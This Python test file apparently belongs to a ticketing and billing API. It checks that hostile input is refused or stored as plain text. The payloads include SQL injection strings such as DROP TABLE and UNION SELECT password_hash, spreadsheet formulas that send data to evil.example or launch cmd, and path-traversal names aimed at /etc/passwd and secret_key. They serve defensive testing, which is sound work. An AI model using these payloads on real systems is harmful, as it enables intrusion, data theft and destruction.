"""Hostile input through the real API: each refused with a clear 4xx problem+json and
not a row, counter or file written. (Chunked bodies through gunicorn, and the sync
push, are in test_hostile_bodies.py.)"""

import csv
import io
import json
import os

import pytest

from billing.csv_safety import FORMULA_TRIGGERS
from tests.reliability.conftest import row_counts
from tests.sync.test_push import material, message, time_entry

PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)


def assert_refused(response, status: int, code: str | None = None) -> dict:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/problem+json"
    body = response.get_json()
    assert body["status"] == status and body["detail"]
    if code:
        assert body["code"] == code
    return body


def report(client, headers, block_id, **fields):
    body = {"summary": "Leak", "description": "Drip", "block_id": block_id, **fields}
    return client.post("/api/tickets", json=body, headers=headers)


# Bodies -------------------------------------------------------------------------


def test_a_json_body_over_the_limit_is_413_and_nothing_is_stored(app, client, make, ours):
    headers = make.headers(ours.tenant)
    before = row_counts(app)
    huge = "x" * (app.config["MAX_JSON_BYTES"] + 1)
    response = report(client, headers, ours.block.id, description=huge)
    assert_refused(response, 413, "payload_too_large")
    assert row_counts(app) == before


def test_a_json_body_without_content_length_over_the_limit_is_413(app, client, make, ours):
    app.config["MAX_JSON_BYTES"] = 4096
    headers = make.headers(ours.tenant)
    before = row_counts(app)
    body = json.dumps({"summary": "Leak", "description": "x" * 8000, "block_id": ours.block.id})
    response = client.post(
        "/api/tickets",
        input_stream=io.BytesIO(body.encode()),
        headers={**headers, "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert_refused(response, 413, "payload_too_large")
    assert row_counts(app) == before


def test_a_body_without_content_length_that_is_not_json_is_415(app, client, make, ours):
    headers = make.headers(ours.tenant)
    before = row_counts(app)
    response = client.post(
        "/api/tickets",
        input_stream=io.BytesIO(b"summary=Leak&description=Drip"),
        headers={
            **headers,
            "Content-Type": "application/x-www-form-urlencoded",
            "Transfer-Encoding": "chunked",
        },
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert_refused(response, 415, "unsupported_media_type")
    assert row_counts(app) == before


NESTED = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize(
    "body",
    [
        NESTED,
        '{"summary": ' + NESTED + "}",
        '{"summary": "Leak", "description": NaN, "block_id": 1}',
        '{"summary": "Leak", "description": "Drip", "block_id": Infinity}',
        b'{"summary": "\xff\xfe invalid UTF-8", "description": "Drip", "block_id": 1}',
        b'{"summary": "Leak", "description": "\xed\xa0\x80 a lone surrogate", "block_id": 1}',
        '{"summary": "Leak", "description": "Drip", "block_id": 1',
        '{"summary": "Leak"}{"summary": "Leak again"}',
    ],
    ids=[
        "100,000 nested arrays",
        "deeply nested member",
        "NaN",
        "Infinity",
        "invalid UTF-8",
        "encoded surrogate",
        "truncated",
        "two documents",
    ],
)
def test_a_body_that_is_not_json_per_rfc_8259_is_400(app, client, make, ours, body):
    headers = make.headers(ours.tenant)
    before = row_counts(app)
    response = client.post(
        "/api/tickets", data=body, content_type="application/json", headers=headers
    )
    assert_refused(response, 400, "bad_request")
    assert row_counts(app) == before


# Numbers ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw_block_id"),
    ["1e400", "-1e400", "1" + "0" * 1000, "-" + "9" * 1000, "1.5", "1e2", "2147483648", "0"],
)
def test_ids_that_are_huge_or_not_integers_are_422(app, client, make, ours, raw_block_id):
    headers = make.headers(ours.staff)
    before = row_counts(app)
    body = f'{{"summary": "Leak", "description": "Drip", "block_id": {raw_block_id}}}'
    response = client.post(
        "/api/tickets", data=body, content_type="application/json", headers=headers
    )
    problem = assert_refused(response, 422, "validation_failed")
    assert "block_id" in problem["errors"]
    assert row_counts(app) == before


def test_a_number_with_more_digits_than_python_parses_is_400(app, client, make, ours):
    headers = make.headers(ours.staff)
    body = f'{{"summary": "Leak", "description": "Drip", "block_id": {"9" * 5000}}}'
    response = client.post(
        "/api/tickets", data=body, content_type="application/json", headers=headers
    )
    assert_refused(response, 400)


@pytest.mark.parametrize(
    ("method", "url", "body", "field"),
    [
        ("PUT", "/api/sla-policies/high", '{"resolution_minutes": 1e400}', "resolution_minutes"),
        ("PUT", "/api/sla-policies/high", '{"resolution_minutes": 10E1000}', "resolution_minutes"),
        ("POST", "/api/users", None, "department_ids"),
        ("PUT", "/api/billing/contractors/{contractor}/labour-category", None, "labour_category"),
        ("POST", "/api/billing/labour-categories", None, "hourly_rate"),
        ("POST", "/api/billing/labour-categories", "nan", "hourly_rate"),
    ],
    ids=["minutes 1e400", "minutes 10E1000", "department id", "category id", "rate", "rate NaN"],
)
def test_huge_numbers_in_admin_settings_are_422(app, client, make, ours, method, url, body, field):
    big = "9" * 1000
    bodies = {
        "department_ids": f'{{"email": "n@x.test", "name": "N", "role": "staff", '
        f'"password": "long enough", "department_ids": [{big}]}}',
        "labour_category": f'{{"labour_category": {big}}}',
        "hourly_rate": '{"name": "Plumber", "hourly_rate": "1e400"}',
    }
    if body == "nan":
        body = '{"name": "Plumber", "hourly_rate": "NaN"}'
    headers = make.headers(ours.admin)
    before = row_counts(app)
    response = client.open(
        url.format(contractor=ours.contractor.id),
        method=method,
        data=body or bodies[field],
        content_type="application/json",
        headers=headers,
    )
    problem = assert_refused(response, 422, "validation_failed")
    assert field in problem["errors"]
    assert row_counts(app) == before


@pytest.mark.parametrize(
    "query",
    [
        {"limit": "1e400"},
        {"limit": "9" * 1000},
        {"assignee": "9" * 1000},
        {"updated_since": "9" * 1000},
    ],
)
def test_huge_numbers_in_query_strings_are_422(client, make, ours, query):
    response = client.get("/api/tickets", query_string=query, headers=make.headers(ours.staff))
    assert_refused(response, 422, "validation_failed")


# Injection ----------------------------------------------------------------------

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE tickets; --",
    '" OR 1=1 --',
    "%' UNION SELECT password_hash FROM users --",
    "\\'; SELECT pg_sleep(5); --",
]


@pytest.mark.parametrize("q", SQL)
def test_sql_in_the_search_text_is_only_text(client, make, ours, theirs, q):
    headers = make.headers(ours.tenant)
    response = client.get("/api/tickets", query_string={"q": q}, headers=headers)
    assert response.status_code == 200
    assert response.get_json()["items"] == []
    everything = client.get("/api/tickets", headers=headers).get_json()["items"]
    assert [t["id"] for t in everything] == [ours.ticket.id]


@pytest.mark.parametrize("q", SQL)
def test_sql_in_a_ticket_is_stored_and_found_as_text(client, make, ours, q):
    headers = make.headers(ours.staff)
    created = report(client, headers, ours.block.id, summary=q)
    assert created.status_code == 201
    found = client.get("/api/tickets", query_string={"q": q}, headers=headers).get_json()
    assert [t["summary"] for t in found["items"]] == [q]


@pytest.mark.parametrize("bad_id", ["1 OR 1=1", "1;DROP TABLE tickets", "1'--", "-1", "0x10"])
def test_sql_in_path_ids_is_404(client, make, ours, bad_id):
    headers = make.headers(ours.admin)
    for url in (f"/api/tickets/{bad_id}", f"/api/tickets/{bad_id}/verify"):
        assert_refused(client.get(url, headers=headers), 404)


@pytest.mark.parametrize(
    "query",
    [{"status": "open' OR '1'='1"}, {"priority": "high;--"}, {"assignee": "1 OR 1=1"}],
)
def test_sql_in_filters_is_422(client, make, ours, query):
    response = client.get("/api/tickets", query_string=query, headers=make.headers(ours.staff))
    assert_refused(response, 422, "validation_failed")


def test_sql_in_a_login_is_a_wrong_password(client, ours):
    response = client.post(
        "/api/auth/token", json={"email": "' OR 1=1 --@x.test", "password": "' OR '1'='1"}
    )
    assert response.status_code in (401, 422)
    assert response.mimetype == "application/problem+json"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_formulas_stored_in_tickets_are_exported_as_text(client, make, ours):
    headers = make.headers(ours.staff)
    for formula in FORMULAS:
        assert report(client, headers, ours.block.id, summary=formula).status_code == 201
    response = client.get("/api/exports/tickets.csv", headers=make.headers(ours.admin))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    summaries = {row["summary"] for row in rows}
    assert {"'" + formula for formula in FORMULAS} <= summaries
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in FORMULA_TRIGGERS or cell.lstrip("-").replace(".", "").isdigit()


def test_formulas_pushed_by_a_device_are_exported_as_text(world):
    headers = world.headers("carl@x.test")
    formula = '=HYPERLINK("http://evil.example","x")'
    response = world.push(
        headers,
        {"materials": {"created": [material(world, description=formula)]}},
    )
    assert response.status_code == 200
    admin = world.headers("admin@x.test", None)
    export = world.client.get("/api/exports/materials.csv", headers=admin)
    assert export.status_code == 200
    assert '"\'=HYPERLINK(""http://evil.example"",""x"")"' in export.get_data(as_text=True)


# NUL characters -----------------------------------------------------------------
# PostgreSQL cannot store U+0000 in text; every database refuses it the same way.


@pytest.mark.parametrize(
    ("who", "url", "body", "field"),
    [
        ("tenant", "/api/tickets", {"summary": "Le\u0000ak", "description": "Drip"}, "summary"),
        ("tenant", "/api/tickets/{ticket}/messages", {"body": "Hi\u0000"}, "body"),
        ("admin", "/api/departments", {"name": "\u0000"}, "name"),
        ("staff", "/api/canned-responses", {"title": "T", "body": "a\u0000b"}, "body"),
        ("tenant", "/api/auth/token", {"email": "a@x.test", "password": "\u0000" * 9}, None),
    ],
    ids=["ticket", "message", "department", "canned response", "login"],
)
def test_a_nul_character_in_json_text_is_422(app, client, make, ours, who, url, body, field):
    headers = make.headers(getattr(ours, who))
    if url == "/api/tickets":
        body = {**body, "block_id": ours.block.id}
    before = row_counts(app)
    response = client.post(url.format(ticket=ours.ticket.id), json=body, headers=headers)
    problem = assert_refused(response, 422, "validation_failed")
    if field:
        assert field in problem["errors"]
    assert row_counts(app) == before


def test_a_nul_character_in_a_nested_key_is_422(app, client, make, ours):
    body = '{"summary": "Leak", "description": "Drip", "block_id": 1, "x": {"a\\u0000": 1}}'
    response = client.post(
        "/api/tickets", data=body, content_type="application/json",
        headers=make.headers(ours.tenant),
    )  # fmt: skip
    assert_refused(response, 422, "validation_failed")


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/api/tickets?q=a%00b", 422),
        ("/api/tickets?status=open%00", 422),
        ("/api/tickets?a%00=1", 422),
        ("/api/sync/attachments/abc%00def", 404),
        ("/api/tickets/{ticket}/attachments/abc%00def", 404),
    ],
)
def test_a_nul_character_in_the_url_is_refused(client, make, ours, url, status):
    response = client.get(url.format(ticket=ours.ticket.id), headers=make.headers(ours.staff))
    assert_refused(response, status)


def test_a_nul_character_in_a_multipart_field_is_422(app, client, make, ours):
    before = row_counts(app)
    response = client.post(
        f"/api/tickets/{ours.ticket.id}/attachments",
        data={"file": (io.BytesIO(PNG), "photo.png", "image/png"), "message_id": "m\x00x"},
        headers=make.headers(ours.tenant),
        content_type="multipart/form-data",
    )
    assert_refused(response, 422, "validation_failed")
    assert row_counts(app) == before


# Path traversal -----------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../../../../tmp/evil.png",
        "..\\..\\..\\evil.png",
        "/etc/cron.d/evil.png",
        "..%2fevil.png",
    ],
)
def test_a_traversing_filename_is_kept_as_a_display_name_only(app, client, make, ours, name):
    response = client.post(
        f"/api/tickets/{ours.ticket.id}/attachments",
        data={"file": (io.BytesIO(PNG), name, "image/png")},
        headers=make.headers(ours.tenant),
        content_type="multipart/form-data",
    )
    assert response.status_code == 201
    stored = response.get_json()
    assert "/" not in stored["filename"] and "\\" not in stored["filename"]
    assert stored["filename"].endswith("evil.png")
    root = app.config["ATTACHMENT_DIR"]
    files = [os.path.join(d, f) for d, _, fs in os.walk(root) for f in fs]
    sha = stored["sha256"]
    assert files == [os.path.join(root, sha[:2], sha[2:4], sha)]


@pytest.mark.parametrize(
    "attachment_id",
    ["..%2F..%2Fsecret_key", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2fsecret_key", "....//x"],
)
def test_a_traversing_attachment_id_is_404_and_nothing_is_stored(app, world, attachment_id):
    headers = world.headers("carl@x.test")
    before = row_counts(app)
    url = f"/api/sync/attachments/{attachment_id}"
    digest = "sha-256=:" + "A" * 43 + "=:"
    for response in (
        world.client.get(url, headers=headers),
        world.client.put(url, data=PNG, headers={**headers, "Content-Digest": digest}),
    ):
        assert response.status_code in (400, 404)
        assert response.mimetype == "application/problem+json"
    assert row_counts(app) == before
    assert not os.path.exists(os.path.join(app.config["ATTACHMENT_DIR"], ".tmp", "x"))


def test_a_pushed_attachment_id_or_filename_cannot_traverse(app, world):
    headers = world.headers("carl@x.test")
    before = row_counts(app)
    record = {
        "id": "../../etc/passwd",
        "ticket_id": str(world.ticket_id),
        "filename": "x.png",
        "content_type": "image/png",
        "sha256": "0" * 64,
        "size": 10,
    }
    response = world.push(headers, {"attachments": {"created": [record]}})
    assert_refused(response, 422, "validation_failed")
    assert row_counts(app) == before
    named = dict(record, id="att-1", filename="../../../etc/passwd")
    assert world.push(headers, {"attachments": {"created": [named]}}).status_code == 200
    [pulled] = world.pull(headers).get_json()["changes"]["attachments"]["updated"]
    assert pulled["filename"] == "passwd"


# Sync records -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("table", "record"),
    [
        ("time_entries", lambda w: time_entry(w, minutes=10**1000)),
        ("time_entries", lambda w: time_entry(w, minutes=1e300)),
        ("time_entries", lambda w: time_entry(w, minutes=1.5)),
        ("time_entries", lambda w: time_entry(w, started_at=10**30)),
        ("materials", lambda w: material(w, quantity="1e400")),
        ("materials", lambda w: material(w, quantity="NaN")),
        ("materials", lambda w: material(w, unit_price="-Infinity")),
        ("ticket_messages", lambda w: message(w, ticket_id="1 OR 1=1")),
        ("ticket_messages", lambda w: message(w, ticket_id="9" * 40)),
        ("ticket_messages", lambda w: message(w, body="a\u0000b")),
        ("attachments", lambda w: {**ATTACHMENT, "ticket_id": str(w.ticket_id), "size": 10**30}),
    ],
    ids=[
        "minutes 10**1000",
        "minutes 1e300",
        "minutes 1.5",
        "time 10**30",
        "quantity 1e400",
        "quantity NaN",
        "price -Infinity",
        "ticket id SQL",
        "ticket id 40 digits",
        "NUL in a message",
        "size 10**30",
    ],
)
def test_hostile_values_in_pushed_records_fail_the_push_and_record_nothing(
    app, world, table, record
):
    headers = world.headers("carl@x.test")
    before = row_counts(app)
    response = world.push(headers, {table: {"created": [record(world)]}})
    assert_refused(response, 422)
    assert row_counts(app) == before


ATTACHMENT = {
    "id": "att-huge",
    "filename": "x.png",
    "content_type": "image/png",
    "sha256": "0" * 64,
}


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000 + "]" * 100_000,
        '{"ticket_messages": {"created": [], "updated": [], "deleted": [NaN]}}',
        b'{"ticket_messages": {"created": [{"id": "m-1", "body": "\xc3\x28"}]}}',
        '{"time_entries": {"created": [{"minutes": ' + "9" * 5000 + "}]}}",
    ],
    ids=["100,000 nested arrays", "NaN", "invalid UTF-8", "5,000 digits"],
)
def test_a_push_body_that_is_not_json_is_400_and_records_nothing(app, world, body):
    headers = world.headers("carl@x.test")
    before = row_counts(app)
    response = world.client.post("/api/sync/push", data=body, headers=headers)
    assert_refused(response, 400, "sync_bad_push")
    assert row_counts(app) == before
